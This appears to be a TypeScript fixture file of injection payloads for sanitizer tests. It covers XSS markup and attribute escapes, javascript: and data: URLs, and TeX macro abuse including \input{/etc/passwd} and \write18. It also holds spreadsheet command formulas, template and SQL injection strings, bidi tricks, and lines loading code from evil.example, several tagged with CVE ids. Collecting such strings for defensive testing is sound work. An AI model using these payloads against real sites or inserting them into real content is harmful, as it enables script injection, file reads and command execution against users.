/** Texts that do harm where they are taken for more than texts. Data only, for tests in Node and in browsers. */
export interface Payload {
  text: string
  /** What could go wrong: the family. */
  kind:
    | 'markup'
    | 'attribute'
    | 'escape'
    | 'url'
    | 'tex'
    | 'bidi'
    | 'clobbering'
    | 'style'
    | 'formula'
    | 'template'
    | 'text'
  /** Where it was a hole once. */
  cve?: string
}

const of = (kind: Payload['kind'], ...texts: string[]): Payload[] => texts.map(text => ({ kind, text }))

export const PAYLOADS: readonly Payload[] = [
  // Elements that run something as soon as they are made.
  ...of(
    'markup',
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script type=module>import("//evil.example/x.js")</script>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src=x:x onerror\n=\nalert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x">',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<body onload=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
    '<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<link rel=import href="//evil.example/x">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<template shadowrootmode=open><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<portal src="javascript:alert(1)"></portal>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://evil.example" target=_blank rel=opener>x</a>',
    '<a ping="//evil.example" href="#">x</a>',
  ),
  // What ends the place it stands in: an attribute, a comment, an element whose text is not parsed.
  ...of(
    'escape',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '`><script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</noscript><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    '--!><script>alert(1)</script>',
    '<!--<script>',
    ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    '?><script>alert(1)</script>',
    '\u2028alert(1)//',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&amp;lt;script&amp;gt;alert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '＜script＞alert(1)＜/script＞',
    '<\0script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ),
  // Attributes that come into being where quotes are missing or not escaped.
  ...of(
    'attribute',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x onmouseover=alert(1) ',
    '" autofocus onfocus="alert(1)" x="',
    '" style="position:fixed;inset:0" onclick="alert(1)',
    '"accesskey="x"onclick="alert(1)"',
    '\n" onpointerenter="alert(1)',
  ),
  // Addresses that run, or lead elsewhere than they say. None of these may be followed.
  ...of(
    'url',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript://arxiv.org/%0aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'vbscript:msgbox(1)',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    'filesystem:https://evil.example/temporary/x',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'ftp://evil.example/',
    '//evil.example/',
    '/\\evil.example/',
    '\\\\evil.example\\x',
    'https:\\\\evil.example',
    'https:evil.example',
    'https:///evil.example',
    'https://arxiv.org@evil.example/',
    'https://arxiv.org\\@evil.example/',
    'https://arxiv.org/\u202egro.elpmaxe',
    'https://arxiv.org/"onclick="alert(1)',
    'https://arxiv.org/\n<script>',
  ),
  // TeX that asks for markup, files, addresses, or for ever more of itself.
  ...of(
    'tex',
    '$\\href{javascript:alert(1)}{x^2}$',
    '$\\url{javascript:alert(1)}$',
    '$\\htmlClass{evil}{x^2}$',
    '$\\htmlId{root}{x^2}$',
    '$\\htmlStyle{position:fixed}{x^2}$',
    '$\\def\\a{\\a\\a}\\a^2$',
    '$\\let\\a=\\b\\def\\b{\\a}\\a^2$',
    '$\\rule{9999em}{9999em}^2$',
    '$\\text{<img src=x onerror=alert(1)>}^2$',
    `$${'{'.repeat(500)}x^2${'}'.repeat(500)}$`,
    '\\input{/etc/passwd}',
    '\\immediate\\write18{id}',
    '$5 and $6 <b>',
  ),
  // Signs that turn the direction of text, or that nobody sees.
  ...of(
    'bidi',
    '\u202egpj.exe',
    '\u202dabc\u202e',
    '\u2066\u2067\u2068abc',
    '\u2069\u2069\u2069abc',
    'a\u200b\u200c\u200d\u2060\ufeffb',
    'p\u0430ypal',
    'a\u0300'.repeat(50),
    '\u{e0041}\u{e0042}',
  ),
  // Names that stand for something in a document or in the language.
  ...of(
    'clobbering',
    '<a id=location>',
    '<form name=body><input name=firstChild>',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    'location',
    'root',
  ),
  // Styles that load or cover something.
  ...of(
    'style',
    '</style><style>*{background:url(//evil.example)}',
    'x;background:url(//evil.example)',
    'expression(alert(1))',
    '}*{display:none}',
    '<style>@import "//evil.example"</style>',
  ),
  // What spreadsheets calculate.
  ...of(
    'formula',
    '=1+1',
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '＝1',
  ),
  // What templates and query parsers would fill in.
  ...of(
    'template',
    '{{constructor.constructor("alert(1)")()}}',
    '\u0024{alert(1)}',
    '<%= 1 %>',
    '#{1}',
    "$& $1 $` $'",
    '%s %d %n',
    "' OR 1=1 --",
  ),
  // Text that is none, or too much of one.
  ...of(
    'text',
    '\ud800',
    '\udc00\ud800',
    'a\0b',
    '\uffff',
    '\ufffe',
    '\x1b[31m',
    'x'.repeat(3_000),
    '字'.repeat(1_000),
  ),
  // Holes of products of this kind, by what went in there.
  {
    kind: 'markup',
    cve: 'CVE-2026-97224',
    text: '{"customData":{"generationData":{"html":"<img src=x onerror=alert(1)>"}}}',
  },
  { kind: 'url', cve: 'CVE-2023-26140', text: 'javascript:alert(document.domain)' },
  {
    kind: 'markup',
    cve: 'GHSA-m64q-4jqh-f72f',
    text: '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>alert(1)</script>">',
  },
  { kind: 'tex', cve: 'CVE-2024-28243', text: `$\\edef\\x{x}${'\\edef\\x{\\x\\x}'.repeat(40)}\\x^2$` },
  { kind: 'tex', cve: 'CVE-2024-28244', text: '$\\def\\a{\u2070\u00b9\u00b2\u00b3\\a}\\a x^2$' },
  { kind: 'tex', cve: 'CVE-2024-28245', text: '$\\includegraphics{x" onerror="alert(1)}^2$' },
  { kind: 'tex', cve: 'CVE-2024-28246', text: '$\\href{JavaScript:alert(1)}{x^2}$' },
  { kind: 'tex', cve: 'CVE-2025-23207', text: '$\\htmlData{x=" onerror=alert(1) y="}{x^2}$' },
  { kind: 'url', cve: 'CVE-2025-24028', text: '\tjavascript:alert(1)' },
  {
    kind: 'markup',
    cve: 'CVE-2021-33295',
    text: '<noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    kind: 'markup',
    cve: 'CVE-2020-28249',
    text: '<link rel="stylesheet" href="javascript:alert(1)" onerror="alert(1)">',
  },
  { kind: 'template', cve: 'CVE-2025-26791', text: '\u0024{<style><img src=x onerror=alert(1)></style>}' },
  { kind: 'url', cve: 'CVE-2026-40181', text: '//evil.example/%2e%2e' },
  { kind: 'url', cve: 'GHSA-wrjc-x8rr-h8h6', text: '/\\/evil.example' },
]
